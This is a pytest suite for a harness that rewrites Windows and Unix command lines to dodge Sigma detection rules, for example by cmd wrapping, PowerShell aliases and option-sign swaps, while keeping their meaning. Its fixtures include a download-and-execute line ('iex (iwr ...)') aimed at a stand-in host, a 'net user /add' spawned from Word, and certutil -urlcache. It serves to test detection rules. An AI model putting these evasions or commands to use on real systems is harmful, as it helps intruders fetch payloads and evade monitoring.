"""Evasions: cases worked out by hand, and that each keeps what its command line means."""

from __future__ import annotations

import copy
import random
import tomllib
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest

from harness import mutations, schemas
from harness.mutations import Effect, Evasion, Mutated, Subject

CASES = Path(__file__).parent / "cases"
EVASIONS = [name for name in mutations.names() if mutations.get(name).evasion]
WITHOUT_LINE = {"cmd-wrapping"}
"""Evasions that leave the command line alone."""


def subject(values: Mapping[str, Any], *, read: frozenset[str] | None = None) -> Subject:
    """Return a process that was started, of Windows or, by its path, of Unix."""
    unix = str(values.get("Image", "")).startswith("/")
    kind = "event" if unix else "process_creation"
    schema = schemas.get("sigma")
    return Subject(
        kind=kind,
        schema=schema,
        values=values,
        document=schema.render(kind, values),
        read=frozenset(values) if read is None else read,
        fields=frozenset(values) if read is None else read,
        chance=random.Random(1),  # noqa: S311 - reproducible data
    )


def process(image: str, line: str, **more: str) -> dict[str, Any]:
    """Return the values of a process."""
    return {"Image": image, "CommandLine": line, **more}


def lines(name: str, values: Mapping[str, Any]) -> list[str]:
    """Return the command lines that an evasion makes."""
    return [str((one.values or {})["CommandLine"]) for one in applied(name, subject(values))]


def applied(name: str, one: Subject) -> list[Mutated]:
    return list(mutations.get(name).apply(one))


def _cases() -> Iterator[Any]:
    for path in sorted(CASES.glob("*.toml")):
        for number, case in enumerate(tomllib.loads(path.read_text("utf-8"))["case"], start=1):
            yield pytest.param(path.stem, case, id=f"{path.stem}-{number}")


@pytest.mark.parametrize(("name", "case"), list(_cases()))
def test_case(name: str, case: Mapping[str, Any]) -> None:
    more = {"CurrentDirectory": case["current"]} if "current" in case else {}
    assert lines(name, process(case["image"], case["before"], **more)) == case["after"]
    assert case["why"]
    assert case["source"]
    assert set(case) <= {"image", "before", "after", "why", "source", "current"}


def test_every_evasion_has_cases_that_change_something_and_that_do_not() -> None:
    found = {path.stem: tomllib.loads(path.read_text("utf-8"))["case"] for path in CASES.iterdir()}
    assert set(found) == {*EVASIONS} - WITHOUT_LINE
    for name, cases in found.items():
        assert any(case["after"] for case in cases), name
        if name not in {"powershell-strings", "option-names"}:
            assert any(not case["after"] for case in cases), name


def test_every_way_of_evasion_is_there() -> None:
    assert {mutations.get(name).evasion for name in EVASIONS} == set(Evasion)


@pytest.mark.parametrize("name", EVASIONS)
def test_it_is_promisable_and_says_where_its_facts_are_from(name: str) -> None:
    one = mutations.get(name)
    assert one.effects == (Effect.PROMISABLE,)
    assert one.sources
    assert all(source.startswith("https://") for source in one.sources)


LINES = [process(case.values[1]["image"], case.values[1]["before"]) for case in _cases()] + [
    process("C:\\Windows\\System32\\cmd.exe", line)
    for line in ("", " ", '"', "cmd /c", 'cmd.exe /c "', "/c ^", "cmd /c %", 'cmd /c "a" "', "\\")
]


@pytest.mark.parametrize("name", EVASIONS)
def test_laws_of_every_evasion(name: str) -> None:
    """On every line of every case: the same again, the input is left alone, each detail once, only
    what is read is changed, and nothing but the command line or the parent."""
    for values in LINES:
        one = subject({**values, "ParentImage": "C:\\a\\b.exe", "ParentCommandLine": "b.exe"})
        before = copy.deepcopy((dict(one.values), dict(one.document)))
        made = applied(name, one)
        assert made == applied(name, one)
        assert (dict(one.values), dict(one.document)) == before
        assert len({each.detail for each in made}) == len(made) <= 8
        for each in made:
            assert each.effect is Effect.PROMISABLE
            assert each.document != one.document
            assert "\n" not in each.detail
            assert each.values is not None
            changed = {key for key in each.values if each.values[key] != one.values.get(key)}
            assert changed
            assert changed <= {"CommandLine"} or name in WITHOUT_LINE
            assert each.values.keys() == one.values.keys()
        assert applied(name, subject(one.values, read=frozenset())) == []


def test_wrapped_in_cmd() -> None:
    values = process(
        "C:\\Windows\\System32\\net.exe",
        "net user bob /add",
        ParentImage="C:\\Office\\winword.exe",
        ParentCommandLine="winword.exe a.docx",
    )
    (made,) = applied("cmd-wrapping", subject(values))
    assert made.values == {
        **values,
        "ParentImage": "C:\\Windows\\System32\\cmd.exe",
        "ParentCommandLine": "cmd.exe /c net user bob /add",
    }
    shell = {**values, "ParentImage": "C:\\Windows\\System32\\cmd.exe", "ParentCommandLine": "cmd"}
    assert applied("cmd-wrapping", subject(shell)) == [], "its parent is cmd.exe already"
    piped = {**values, "CommandLine": "find.exe a|b"}
    assert applied("cmd-wrapping", subject(piped)) == [], "cmd.exe would make a pipe of it"
    assert applied("cmd-wrapping", subject(values, read=frozenset({"CommandLine"}))) == []


def test_scripts_are_changed_too() -> None:
    """A script block is recorded as it was written."""
    schema = schemas.get("sigma")
    values = {"ScriptBlockText": "iex (iwr http://a.example/x)"}
    one = Subject(
        kind="ps_script",
        schema=schema,
        values=values,
        document=schema.render("ps_script", values),
        read=frozenset(values),
        fields=frozenset(values),
        chance=random.Random(1),  # noqa: S311 - reproducible data
    )
    made = [(each.values or {})["ScriptBlockText"] for each in applied("powershell-aliases", one)]
    assert made == ["Invoke-Expression (Invoke-WebRequest http://a.example/x)"]


def test_a_renamed_program_is_told_by_the_name_it_was_built_with() -> None:
    values = process("C:\\Temp\\a.exe", "a.exe -urlcache x", OriginalFileName="CertUtil.exe")
    assert lines("option-signs", values)[0] == "a.exe /urlcache x"


def test_the_program_that_a_line_names_counts() -> None:
    values = process("C:\\Tools\\x.exe", "certutil.exe -urlcache x")
    assert lines("option-signs", values)[0] == "certutil.exe /urlcache x"


@pytest.mark.parametrize("most", [32_767, 40_000])
def test_lines_that_no_system_would_run_are_left_alone(most: int) -> None:
    values = process("C:\\Windows\\System32\\cmd.exe", f"cmd.exe /c {'a' * most}")
    for name in EVASIONS:
        assert lines(name, values) == [] or name in WITHOUT_LINE


@pytest.mark.parametrize("told", [{"OS": "linux"}, {"host.os.type": "linux"}])
def test_unix_has_no_cmd(told: dict[str, str]) -> None:
    values = {
        **process("sh", "sh -c id"),
        "ParentImage": "sshd",
        "ParentCommandLine": "sshd",
        **told,
    }
    assert applied("cmd-wrapping", subject(values)) == []
    assert applied("shell-quotes", subject(values))
